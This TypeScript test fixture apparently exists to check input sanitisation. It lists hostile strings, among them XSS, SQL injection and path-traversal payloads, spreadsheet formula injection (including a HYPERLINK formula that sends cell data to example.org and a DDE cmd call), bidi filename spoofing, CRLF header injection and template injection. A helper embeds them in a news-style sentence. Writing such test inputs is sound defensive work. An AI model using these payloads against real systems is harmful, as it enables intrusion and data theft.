/** What somebody may write where a name, a title, a text or a question is expected, hoping that it is read as something else. */
export const HOSTILE: Readonly<Record<string, string>> = {
  html: "<img src=x onerror=alert(1)><svg/onload=alert(2)>\"'><b>",
  script: "</script><script>alert(document.domain)</script>",
  style: "</style><style>*{display:none}</style>",
  comment: "--><!--[CDATA[ ]]>",
  attribute: '" onmouseover="alert(1)" x="',
  address: "javascript:alert(1)//",
  data: "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  sql: "'; DROP TABLE item; --",
  union: '" UNION SELECT hash FROM token --',
  match: 'a" OR name MATCH "b* NEAR(c d)',
  path: "../../../../etc/passwd",
  backslashes: "..\\..\\windows\\win.ini",
  encoded: "%2e%2e%2f%2e%2e%2fetc%2fpasswd%00.html",
  formula: '=HYPERLINK("http://example.org/?"&A1,"click")',
  command: "+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: "\t=1+1",
  bidi: "invoice\u202efdp.exe\u2066\u202d",
  invisible: "Ka\u200brim\ufeff Be\u00adnali",
  surrogate: "half \ud83d of a sign",
  zero: "before\u0000after",
  controls: "\u001b[31mred\u001b[0m\u0007\r\nSet-Cookie: a=b",
  template: "\u0024{7*7}{{7*7}}<%= 7*7 %>",
  prototype: "__proto__",
  long: "ا".repeat(20_000),
};

/** A text that tells an engagement, with something hostile in it. */
export function hostileText(hostile: string): string {
  return `Rabat - The Minister of the Interior of Morocco, Karim Benali, received the Minister of the Interior of Spain, Carlos Martin, in Rabat on 12 March 2025. ${hostile} They discussed terrorism. ${hostile}`;
}
